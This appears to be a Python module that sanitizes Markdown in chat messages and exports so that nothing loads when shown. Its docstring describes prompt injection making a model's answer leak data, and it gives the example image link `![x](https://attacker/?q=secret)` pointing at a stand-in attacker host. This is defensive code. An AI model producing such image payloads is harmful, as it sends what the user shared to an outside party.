"""Markdown that loads nothing when it is shown: what the chat and the exports render of messages.

An answer can carry instructions injected by a document, and an image is a request the browser
sends on its own: `![x](https://attacker/?q=secret)` or `<img src=…>` would carry what the model
read to someone else. So every Markdown image becomes a link the reader may follow ("[image: x]"),
and every raw HTML tag becomes text (`<` as `&lt;`): a tag is where resources (img, iframe, video,
style, svg, srcset, `style=url(…)`, …) load, and no tag may open an HTML block either. Code spans and
fenced code blocks are kept as written, since Markdown already shows their content as text.

Where code ends is decided by a scan of the text, then checked with a CommonMark parser; when the
two disagree (a crafted text), every `<` and `![` is neutralized, in code too: a slightly odd code
span beats a request to an attacker.
"""

from __future__ import annotations

import bisect
import re
from functools import lru_cache

IMAGE_NOTE = "[image: "
# An opening fence: up to three spaces (four make indented code), then three or more ` or ~.
FENCE = re.compile(r"( {0,3})(`{3,}|~{3,})(.*)")
# Outside code, in order: a backslash escape (kept: it makes the next character literal), a URL
# autolink (kept: a link is only followed when clicked), an image opener, a tag opener.
INLINE = re.compile(r"\\[\s\S]|<[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>|!\[|<(?=[A-Za-z/!?])")
BACKTICKS = re.compile(r"`+")
# What may load a resource or hold raw HTML once rendered.
UNSAFE_TOKENS = {"image", "html_inline", "html_block"}


@lru_cache(maxsize=256)  # the chat re-renders every message on each streamed update
def inert_markdown(text: str) -> str:
    """`text` with images turned into links and raw HTML into text; code and the rest unchanged."""
    scanned = _outside_code(text)
    if _unsafe(scanned):
        return _neutralize(text)
    return scanned


def _neutralize(text: str) -> str:
    """The fallback: no `<` and no `![` anywhere, so no parser can find a tag or an image."""
    return text.replace("<", "&lt;").replace("![", IMAGE_NOTE)


def _outside_code(text: str) -> str:
    """Neutralize tags and images outside fenced code blocks and code spans."""
    out: list[str] = []
    paragraph: list[str] = []  # code spans may run over lines, not past a blank line or a fence
    fence: tuple[str, int, int] | None = None  # (character, length, indent) of the open fence

    def end_paragraph() -> None:
        if paragraph:
            out.append(_inline("\n".join(paragraph)))
            paragraph.clear()

    for line in text.split("\n"):
        if fence is not None:
            if line.strip() and _indent(line) < fence[2]:
                fence = None  # less indented than its opener: the list item holding it has ended
            else:
                out.append(line)
                if _closes(line, fence):
                    fence = None
                continue
        opening = FENCE.fullmatch(line)
        if opening and not (opening.group(2)[0] == "`" and "`" in opening.group(3)):
            end_paragraph()
            out.append(line)
            fence = (opening.group(2)[0], len(opening.group(2)), len(opening.group(1)))
        elif not line.strip():
            end_paragraph()
            out.append(line)
        else:
            paragraph.append(line)
    end_paragraph()
    return "\n".join(out)


def _indent(line: str) -> int:
    return len(line.expandtabs(4)) - len(line.expandtabs(4).lstrip(" "))


def _closes(line: str, fence: tuple[str, int, int]) -> bool:
    character, length, _ = fence
    closing = re.fullmatch(rf" {{0,3}}({re.escape(character)}{{{length},}})[ \t]*", line)
    return closing is not None


def _inline(block: str) -> str:
    """One paragraph: code spans kept, the text between them neutralized."""
    # Where each whole run of backticks starts, by length: a span closes at the next run of its
    # opener's length (found by bisection, so a text full of lone backticks stays linear).
    runs: dict[int, list[int]] = {}
    for run in BACKTICKS.finditer(block):
        runs.setdefault(len(run.group()), []).append(run.start())
    parts, position, plain_from = [], 0, 0
    while position < len(block):
        character = block[position]
        if character == "\\":
            position += 2
            continue
        if character == "`":
            length = len(BACKTICKS.match(block, position).group())
            starts = runs.get(length, [])
            following = bisect.bisect_left(starts, position + length)
            if following < len(starts):
                end = starts[following] + length
                parts += [_neutralize_inline(block[plain_from:position]), block[position:end]]
                position = plain_from = end
                continue
            position += length
            continue
        position += 1
    parts.append(_neutralize_inline(block[plain_from:]))
    return "".join(parts)


def _neutralize_inline(text: str) -> str:
    def replace(match: re.Match) -> str:
        found = match.group()
        if found == "![":
            return IMAGE_NOTE
        return "&lt;" if found == "<" else found

    return INLINE.sub(replace, text)


def _unsafe(text: str) -> bool:
    """Whether a CommonMark parser (with tables, as chat renderers use) still finds an image or
    raw HTML in `text`."""
    for token in _parser().parse(text):
        if token.type in UNSAFE_TOKENS or any(child.type in UNSAFE_TOKENS for child in token.children or ()):
            return True
    return False


@lru_cache(maxsize=1)
def _parser():
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"])
